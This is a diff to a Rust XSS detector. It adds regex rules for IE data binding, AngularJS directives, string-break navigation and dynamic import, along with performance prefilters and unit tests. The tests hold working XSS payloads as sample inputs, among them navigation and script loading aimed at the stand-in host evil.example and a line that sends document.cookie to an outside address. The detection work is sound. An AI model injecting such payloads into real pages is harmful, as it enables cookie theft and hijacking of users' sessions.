@@ -7,7 +7,7 @@
 //! is a file name or a documentation search.
 
 use super::prefilter::{lits, LitSet, Lits};
-use super::rules::{first, Rule};
+use super::rules::Rule;
 use super::{AttackType, Detector, Finding};
 use crate::point::Leaf;
 
@@ -17,8 +17,15 @@ pub struct Xss {
     rules: Vec<Rule>,
     /// See [`MEMBER_RULES`].
     member: Vec<Rule>,
+    /// Index in `rules` of the [`HANDLER`] rule, run only after [`handler_assignment`].
+    handler: usize,
+    /// Per rule of `rules` / `member`: the [`SECOND_GATES`] literals (empty: none).
+    rules_second: Vec<Lits>,
+    member_second: Vec<Lits>,
     /// Names whose presence makes JS normalisation worth its allocation.
     js_gate: Lits,
+    /// Bytes one of which every rule's pattern needs (see [`QUICK_BYTES`]).
+    quick: Lits,
 }
 
 impl Xss {
@@ -49,7 +56,7 @@ impl Xss {
                 ),
                 // The last form: a quote break into an attribute that takes a script URL or a
                 // whole document.
-                "event handler or script-url attribute",
+                HANDLER,
             ),
             Rule::new(
                 &["url"],
@@ -64,8 +71,10 @@ impl Xss {
                     "datasrc",
                     "<xml",
                     "<layer",
+                    "dataformatas",
                 ],
-                r"<\?import\b|<\?xml:namespace\b|\+adw-\s*[a-z/!]|\bdatasrc\s*=|<\s*(?:xml|layer|ilayer)\s[^>]*\bsrc\s*=",
+                // `dataformatas="html"`: IE data binding renders the bound field as markup.
+                r"<\?import\b|<\?xml:namespace\b|\+adw-\s*[a-z/!]|\bdatasrc\s*=|\bdataformatas\s*=\s*['\x22]?\s*html|<\s*(?:xml|layer|ilayer)\s[^>]*\bsrc\s*=",
                 "legacy markup hiding script",
             ),
             Rule::new(
@@ -89,7 +98,9 @@ impl Xss {
                     "globalthis.",
                     "document.",
                 ],
-                r"\b(?:window|self|top|parent|frames|globalthis|document)\.(?:alert|prompt|confirm|eval|cookie|location|write|domain|open|\$|\\x24|settimeout|setinterval|fetch|importscripts)",
+                // `self.open`, `self.write`, `self.fetch` are Python methods: after `self`
+                // only names no Python class has.
+                r"\b(?:window|top|parent|frames|globalthis|document)\.(?:alert|prompt|confirm|eval|cookie|location|write|domain|open|\$|\\x24|settimeout|setinterval|fetch|importscripts)|\bself\.(?:alert|prompt|confirm|eval|cookie|location|domain|\$|\\x24|settimeout|setinterval|importscripts)\b",
                 "global object sink",
             ),
             Rule::new(
@@ -97,9 +108,11 @@ impl Xss {
                 r"(?:^|[\s'`=(\x22]|&)\s*(?:javascript|vbscript|livescript|mocha)\s*:|data:\s*(?:text/html|image/svg\+xml|application/x?html)[;,]|\bdata\s*:\s*[a-z0-9/+.=;-]*\s*,\s*<\s*[a-z!/?]",
                 "script URL",
             ),
+            // Also gated on the names (see `SECOND_GATES`): `(` alone is in most values.
             Rule::new(
                 &["(", "`"],
-                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression|import)\s*(?:\(|`)|\bnew\s+function(?:\(|`)",
+                // `import(` loads a module from a string (`from x import (` is Python).
+                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression)\s*(?:\(|`)|(?:^|[^a-z0-9_.$])import\s*(?:\(\s*['`\x22]|`)|\bnew\s+function(?:\(|`)",
                 "script sink call",
             ),
             Rule::new(
@@ -118,7 +131,19 @@ impl Xss {
             Rule::new(
                 &["["],
                 r"\b(?:top|self|parent|frames|window|globalthis)\s*\[\s*['`\x22]",
-                "global object sink",
+                GLOBAL_LOOKUP,
+            ),
+            // `x'};location.href='//evil';//`: a JS string closed, then a navigation.
+            Rule::new(
+                &["location"],
+                r#"['"`][\s)\]}]*[;+-]\s*(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*(?:href|hash|search|pathname|replace|assign))?\s*(?:=|\()\s*['"`]?\s*(?:/{2}|[a-z][a-z0-9+.-]*:|(?:document|window|self|top|name|atob|unescape)\b)"#,
+                "navigation after a string break",
+            ),
+            // AngularJS evaluates these attributes as expressions (`ng-focus="$event.view…"`).
+            Rule::new(
+                &["ng-"],
+                r"<[a-z][^>]*\sng-(?:click|dblclick|focus|blur|mouse[a-z]+|key[a-z]+|change|submit|copy|cut|paste|init)\s*=",
+                "angular directive in markup",
             ),
             Rule::new(
                 &["binding", "behavio", "@import"],
@@ -134,10 +159,27 @@ impl Xss {
         // Rules that match a bare member name (`document.cookie`): on their own such names are
         // a file name or a search for documentation; as script they come with an operator or
         // a call, so these only count when the value has some JS punctuation.
-        let (member, rules) = rules
+        let (member, rules): (Vec<Rule>, Vec<Rule>) = rules
             .into_iter()
             .partition(|r| MEMBER_RULES.contains(&r.reason));
+        let second = |list: &[Rule]| -> Vec<Lits> {
+            list.iter()
+                .map(|r| {
+                    SECOND_GATES
+                        .iter()
+                        .find(|(reason, _)| *reason == r.reason)
+                        .map_or_else(Lits::default, |(_, names)| lits(names))
+                })
+                .collect()
+        };
         Xss {
+            handler: rules
+                .iter()
+                .position(|r| r.reason == HANDLER)
+                .unwrap_or(usize::MAX),
+            quick: lits(QUICK_BYTES),
+            rules_second: second(&rules),
+            member_second: second(&member),
             rules,
             member,
             js_gate: lits(&[
@@ -263,6 +305,10 @@ impl Detector for Xss {
     }
 
     fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
+        // No pass (JS-normalised, controls stripped) adds any of these bytes.
+        if !present.any(&self.quick) {
+            return None;
+        }
         let lower = leaf.lower.as_str();
         let js_syntax = || lower.bytes().any(|c| JS_PUNCT.contains(&c));
         if let Some((a, b, reason)) = self.first(lower, present, &js_syntax) {
@@ -296,7 +342,94 @@ impl Detector for Xss {
     }
 }
 
-const MEMBER_RULES: &[&str] = &["DOM sink access", "global object sink"];
+const MEMBER_RULES: &[&str] = &["DOM sink access", "global object sink", GLOBAL_LOOKUP];
+
+const GLOBAL_LOOKUP: &str = "global object sink (computed name)";
+
+/// Literals a rule needs besides its own prefilter, one of each list: the rule's own gate is
+/// a byte most values have (`(`, `[`), checked first because it is one bit; the names it is
+/// called with are many bits, checked only then.
+const SECOND_GATES: &[(&str, &[&str])] = &[
+    (
+        "script sink call",
+        &[
+            "alert",
+            "prompt",
+            "confirm",
+            "eval",
+            "settimeout",
+            "setinterval",
+            "execscript",
+            "fromcharcode",
+            "atob",
+            "btoa",
+            "expression",
+            "import",
+            "function",
+        ],
+    ),
+    (
+        GLOBAL_LOOKUP,
+        &["top", "self", "parent", "frames", "window", "globalthis"],
+    ),
+];
+
+const HANDLER: &str = "event handler or script-url attribute";
+
+/// Every rule's pattern needs one of these bytes: a tag (`<`), an attribute or assignment
+/// (`=`), a call (`(`, `` ` ``), an index (`[`), a member (`.`), a scheme or style property
+/// (`:`), `@import`, `+ADw-`. A value with none of them (most data) skips every rule.
+const QUICK_BYTES: &[&str] = &["<", "=", "(", "`", "[", ".", ":", "@", "+"];
+
+/// The first rule of `rules` whose gates pass and whose pattern matches: its prefilter, then
+/// its second gate (`second[k]`), then `extra(k)`.
+fn gated_first(
+    rules: &[Rule],
+    second: &[Lits],
+    text: &str,
+    present: &LitSet,
+    extra: impl Fn(usize) -> bool,
+) -> Option<(usize, usize, &'static str)> {
+    rules.iter().enumerate().find_map(|(k, r)| {
+        if !r.prefilter.is_empty() && !present.any(&r.prefilter)
+            || second
+                .get(k)
+                .is_some_and(|g| !g.is_empty() && !present.any(g))
+            || !extra(k)
+        {
+            return None;
+        }
+        r.regex
+            .find(text.as_bytes())
+            .map(|m| (m.start(), m.end(), r.reason))
+    })
+}
+
+/// Some `=` follows (after blanks) a name that starts with `on` or is an attribute taking a
+/// script URL or a document: what the [`HANDLER`] rule needs. `=` is in most values (`1=1`,
+/// `a=b`), names like that are not, and one look back per `=` is cheaper than the regex.
+fn handler_assignment(b: &[u8]) -> bool {
+    memchr::memchr_iter(b'=', b).any(|eq| {
+        let mut end = eq;
+        while end > 0 && (b[end - 1].is_ascii_whitespace() || b[end - 1] == 0x0b) {
+            end -= 1;
+        }
+        let mut start = end;
+        while start > 0
+            && end - start < 40
+            && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'_' | b':'))
+        {
+            start -= 1;
+        }
+        let name = &b[start..end];
+        end - start >= 40
+            || name.starts_with(b"on")
+            || matches!(
+                name,
+                b"formaction" | b"srcdoc" | b"xlink:href" | b"dynsrc" | b"lowsrc"
+            )
+    })
+}
 const JS_PUNCT: &[u8] = b"()=+;'\"<>`[]{},";
 
 impl Xss {
@@ -306,8 +439,14 @@ impl Xss {
         present: &LitSet,
         js_syntax: &dyn Fn() -> bool,
     ) -> Option<(usize, usize, &'static str)> {
-        first(&self.rules, text, present)
-            .or_else(|| first(&self.member, text, present).filter(|_| js_syntax()))
+        let b = text.as_bytes();
+        gated_first(&self.rules, &self.rules_second, text, present, |k| {
+            k != self.handler || handler_assignment(b)
+        })
+        .or_else(|| {
+            gated_first(&self.member, &self.member_second, text, present, |_| true)
+                .filter(|_| js_syntax())
+        })
     }
 }
 
@@ -360,9 +499,43 @@ mod tests {
             "top[\"al\"+\"ert\"](1)",
             "window[`ev`+`al`](name)",
             "new Image().src='//e/?c='+document.cookie",
+            "x'};location.href='//evil.example';//",
+            "\";top.location='//evil.example/'+1;//",
+            "'-location.replace('//evil.example')-'",
+            "<input autofocus ng-focus=\"$event.view.alert(1)\">",
+            "<div datasrc=#x datafld=b dataformatas=html>",
+            "<p dataformatas='html' datafld=a>",
+            "import('//evil.example/x.js')",
+            "self.alert(1)",
         ] {
             assert!(hit(v), "{v}");
         }
+    }
+
+    /// The look back before each `=` passes whenever the handler pattern can match.
+    #[test]
+    fn handler_precheck_is_a_superset() {
+        let xss = Xss::new();
+        let re = &xss.rules[xss.handler].regex;
+        for v in [
+            "\"  onload= ",
+            "  onwebkitanimationend= ",
+            "x' onerrorupdate=y",
+            "\"onpropertychange=x",
+            "' srcdoc=&lt;svg",
+            "\"formaction=//evil.example",
+            "\"/xlink:href=x",
+            "a onclick\x0b=x",
+            "a onclick\n\t =x",
+            &format!("\" on{}=1", "m".repeat(60)),
+            "1=1",
+            "a=b&c=d",
+        ] {
+            if re.is_match(v.as_bytes()) {
+                assert!(handler_assignment(v.as_bytes()), "{v:?}");
+            }
+        }
+        assert!(!handler_assignment(b"1=1 and x=y"));
     }
 
     #[test]
@@ -392,6 +565,14 @@ mod tests {
             "moz",
             "help = 3",
             "a new function (in math)",
+            "from typing import (",
+            "self.open(path)",
+            "self.write(data); self.fetch(url)",
+            "f(\"x\", location=\"paris\")",
+            "location = 'paris'",
+            "\"city\"; location: paris",
+            "\"Meet at 8am\"; location = lobby",
+            "<div ng-app class=x>",
         ] {
             assert!(!hit(v), "{v}");
         }
